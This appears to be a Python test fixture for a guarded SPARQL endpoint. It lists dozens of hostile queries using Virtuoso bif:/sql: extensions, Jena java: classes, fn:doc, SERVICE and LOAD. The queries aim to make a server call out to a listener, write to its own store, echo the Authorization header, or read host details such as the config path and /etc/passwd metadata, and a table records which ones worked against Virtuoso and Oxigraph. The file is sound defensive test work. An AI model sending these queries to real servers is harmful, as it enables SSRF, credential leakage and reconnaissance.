"""Queries that try to make a SPARQL server lend out its powers: each family of engine extensions, in every spelling.

``families(listener, server)`` names each query; ``listener`` is a URL the
test watches for requests (SSRF), ``server`` the store's own query endpoint
(a write sent back to it). Each query is written so that, run by the engine
it targets, it would reach the listener, write to the store, read a header
of the request or disclose the host; the endpoint must refuse every one
before it leaves.
"""

INSERT = "INSERT DATA { GRAPH <http://example.org/stolen> { <http://example.org/a> <http://example.org/b> 1 } }"


def families(listener: str, server: str) -> dict[str, str]:
    """Name: query. Virtuoso's bif: and sql:, Jena's java:, and the standard's own doors out (SERVICE, FROM, LOAD)."""
    get = f"bif:http_get('{listener}/bif')"
    write = f"bif:http_get('{server}', 0, 'POST', 'Content-Type: application/sparql-update', '{INSERT}')"
    return {
        # Virtuoso's built-in functions, undeclared as Virtuoso takes them, and in every other spelling.
        "bif-prefixed": f"SELECT ({get} AS ?x) WHERE {{}}",
        "bif-iri": f"SELECT (<bif:http_get>('{listener}/iri') AS ?x) WHERE {{}}",
        "bif-iri-upper-case": f"SELECT (<BIF:http_get>('{listener}/upper') AS ?x) WHERE {{}}",
        "bif-iri-escaped": f"SELECT (<bif:http\\u005Fget>('{listener}/escaped') AS ?x) WHERE {{}}",
        "bif-local-name-escape": f"PREFIX b: <bif:> SELECT (b:http\\_get('{listener}/pn-local') AS ?x) WHERE {{}}",
        "bif-declared-elsewhere": f"PREFIX bif: <http://www.w3.org/2001/XMLSchema#> SELECT (bif:string('{listener}') AS ?x) WHERE {{}}",
        "bif-in-filter": f"SELECT * WHERE {{ ?s ?p ?o FILTER (STRLEN(STR({get})) > 0) }} LIMIT 1",
        "bif-in-bind": f"SELECT ?x WHERE {{ BIND ({get} AS ?x) }}",
        "bif-in-order-by": f"SELECT ?s WHERE {{ ?s ?p ?o }} ORDER BY ({get}) LIMIT 1",
        "bif-in-group-by": f"SELECT (COUNT(*) AS ?n) WHERE {{ ?s ?p ?o }} GROUP BY ({get})",
        "bif-in-having": f"SELECT ?s WHERE {{ ?s ?p ?o }} GROUP BY ?s HAVING (STRLEN(STR({get})) > 0) LIMIT 1",
        "bif-as-aggregate": f"SELECT (<bif:http_get>(DISTINCT '{listener}/aggregate') AS ?x) WHERE {{ ?s ?p ?o }}",
        "bif-in-subquery": f"SELECT * WHERE {{ {{ SELECT ({get} AS ?x) WHERE {{}} }} }}",
        "bif-in-exists": f"SELECT * WHERE {{ ?s ?p ?o FILTER EXISTS {{ ?s ?p ?o FILTER (STRLEN(STR({get})) > 0) }} }} LIMIT 1",
        "bif-in-construct": f"CONSTRUCT {{ <http://example.org/a> <http://example.org/b> ?x }} WHERE {{ BIND ({get} AS ?x) }}",
        "bif-in-ask": f"ASK {{ ?s ?p ?o FILTER (STRLEN(STR({get})) > 0) }}",
        "bif-magic-predicate": "SELECT ?s WHERE { ?s ?p ?o . ?o bif:contains '\"housing\"' }",
        "bif-magic-predicate-iri": "SELECT ?s WHERE { ?s ?p ?o . ?o <bif:contains> '\"housing\"' }",
        # A write, through the server's own update endpoint.
        "bif-write-back": f"SELECT ({write} AS ?x) WHERE {{}}",
        # The request's own headers: the operator's credentials, if any were sent.
        "bif-request-header": "SELECT (bif:http_request_header() AS ?h) WHERE {}",
        "bif-authorization": "SELECT (bif:http_request_header_full(bif:http_request_header(), 'Authorization', '') AS ?h) WHERE {}",
        # The host: its address, its configuration, its files.
        "bif-server-address": "SELECT (bif:sys_connected_server_address() AS ?x) WHERE {}",
        "bif-ini-path": "SELECT (bif:virtuoso_ini_path() AS ?x) WHERE {}",
        "bif-cfg-item": "SELECT (bif:cfg_item_value(bif:virtuoso_ini_path(), 'Parameters', 'ServerPort') AS ?x) WHERE {}",
        "bif-file-stat": "SELECT (bif:file_stat('/etc/passwd') AS ?x) WHERE {}",
        "bif-sys-stat": "SELECT (bif:sys_stat('st_dbms_ver') AS ?x) WHERE {}",
        "bif-getenv": "SELECT (bif:getenv('HOME') AS ?x) WHERE {}",
        # Virtuoso's stored procedures, and Jena's Java classes.
        "sql-procedure": "SELECT (sql:DB.DBA.SPARQL_INSERT_DICT_CONTENT('http://example.org/stolen', 0) AS ?x) WHERE {}",
        "sql-iri": "SELECT (<sql:DB.DBA.SPARQL_INSERT_DICT_CONTENT>('http://example.org/stolen', 0) AS ?x) WHERE {}",
        "java-class": "SELECT (<java:java.lang.System>('x') AS ?x) WHERE {}",
        # XPath's fn:doc fetches a URL where it is implemented.
        "xpath-doc": f"PREFIX fn: <http://www.w3.org/2005/xpath-functions#> SELECT (fn:doc('{listener}/doc') AS ?x) WHERE {{}}",
        # SPARQL's own doors out: federation, and a dataset naming another server.
        "service": f"SELECT * WHERE {{ SERVICE <{listener}/service> {{ ?s ?p ?o }} }}",
        "service-silent": f"SELECT * WHERE {{ SERVICE SILENT <{listener}/silent> {{ ?s ?p ?o }} }}",
        "service-variable": f"SELECT * WHERE {{ VALUES ?e {{ <{listener}/variable> }} SERVICE ?e {{ ?s ?p ?o }} }}",
        "service-escaped": f"SELECT * WHERE {{ \\u0053ERVICE <{listener}/escaped-service> {{ ?s ?p ?o }} }}",
        "load-update": f"LOAD <{listener}/load>",
    }


# What each family does when sent straight to a server, past the endpoint, as measured here (Virtuoso Open Source
# 7.2.5 from Debian, Oxigraph server 0.5.13), and how a test sees it: "listener", a request reaches the listener;
# "echo", the request's own Authorization header comes back; "runs", the server answers 200; any other text, the
# answer holds it ({port} and {isql} stand for the server's HTTP and SQL ports). Sent normalised, as the endpoint
# sends every query (its \u escapes expanded).
LIVE = {
    "virtuoso": {
        **dict.fromkeys(("bif-prefixed", "bif-iri", "bif-iri-escaped", "bif-in-filter", "bif-in-bind", "bif-in-order-by",
                         "bif-in-group-by", "bif-in-having", "bif-in-subquery", "bif-in-exists", "bif-in-construct",
                         "bif-in-ask"), "listener"),
        "bif-magic-predicate": "runs",
        "bif-magic-predicate-iri": "runs",
        # The update reached the server's own endpoint; least privilege refused it there (tests/servers.py).
        "bif-write-back": "SECURITY: No permission",
        "bif-authorization": "echo",
        "bif-server-address": "127.0.0.1:{port}",
        "bif-ini-path": "virtuoso.ini",
        "bif-cfg-item": "127.0.0.1:{isql}",
        "bif-sys-stat": "07.20",
        "bif-file-stat": "{passwd_changed}",  # when /etc/passwd last changed, as Virtuoso writes it
    },
    "oxigraph": {"service": "listener", "service-silent": "listener", "service-escaped": "listener"},
}
# Refused all the same, though no server here runs them: other engines, or other versions, may.
#   bif-iri-upper-case, java-class: undefined procedures in Virtuoso (Jena runs java: classes)
#   bif-local-name-escape, bif-as-aggregate: syntax Virtuoso does not read (SPARQL's \_ and custom aggregates)
#   bif-declared-elsewhere: Virtuoso refuses to declare bif: and sql:
#   bif-request-header: Virtuoso fails (500) to write the vector it returns
#   bif-getenv: for Virtuoso's DBA group only
#   sql-procedure, sql-iri: Virtuoso refuses a qualified procedure name in SPARQL
#   xpath-doc: Virtuoso refuses fn:doc to its anonymous user (SR186), or at times crashes on it (seen in 7 of 12 tries
#   with Virtuoso 7.2.5): too uncertain for a test, and refused by the check whatever it does
#   service-variable, load-update: Oxigraph cannot bind a service to a variable; LOAD is an update
# Virtuoso refuses SERVICE to its anonymous user (SQ070).

# Those that must leave the endpoint as a query and come back answered: FROM names a graph, never fetched.
DATASETS = {
    "from": "SELECT (COUNT(*) AS ?n) FROM <{listener}/from> WHERE {{ ?s ?p ?o }}",
    "from-named": "SELECT (COUNT(*) AS ?n) FROM NAMED <{listener}/from-named> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}",
}
